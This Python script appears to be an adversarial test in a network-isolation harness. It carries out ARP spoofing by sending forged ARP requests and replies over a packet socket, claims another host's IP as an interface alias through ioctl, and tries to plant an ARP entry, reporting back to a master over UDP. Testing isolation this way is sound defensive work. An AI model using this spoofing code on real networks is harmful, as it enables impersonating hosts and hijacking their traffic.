"""Claims to another member's address, or the bystander's: by hand, and by the kernel's own."""

import fcntl
import os
import socket
import struct
import time

from attacker import FACTS, attempt
from wire import ARP, BROADCAST, MASTER, SLAVES, arp, frame, own_mac, packet_socket

PORT, SIOCSIFADDR, SIOCSARP = 5100, 0x8916, 0x8955
if os.environ["SYNDICATE_TASK"] != "slave-0":
    time.sleep(3.5)
    os._exit(0)
others = list(FACTS["bystander"].values())
honest = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def claim(address):
    """As a second address of eth0, for which the kernel answers."""
    request = struct.pack("16sH2s4s8s", b"eth0:1", socket.AF_INET, b"", socket.inet_aton(address), b"")
    fcntl.ioctl(honest, SIOCSIFADDR, request)


wire = attempt("a packet socket", packet_socket)
mac = own_mac()
until = time.monotonic() + 2.5  # whom it knows the kernel keeps for a second, whatever else is claimed
while time.monotonic() < until:
    for address, target in ((SLAVES[1], MASTER), (others[0], others[1]), (others[1], others[0])):
        for kind, asked in ((1, target), (2, target), (1, address), (2, address)):
            if wire is not None:
                for hardware in (mac, BROADCAST):
                    wire.send(frame(mac, ARP, arp(kind, hardware, address, asked)))
    honest.sendto(b"look", (MASTER, PORT))
    time.sleep(0.1)
attempt("a second address", claim, SLAVES[1])
attempt("an ARP entry", fcntl.ioctl, honest, SIOCSARP, bytes(68))
for _ in range(3):
    honest.sendto(b"look", (MASTER, PORT))
    time.sleep(0.1)
honest.sendto(b"done", (MASTER, PORT))
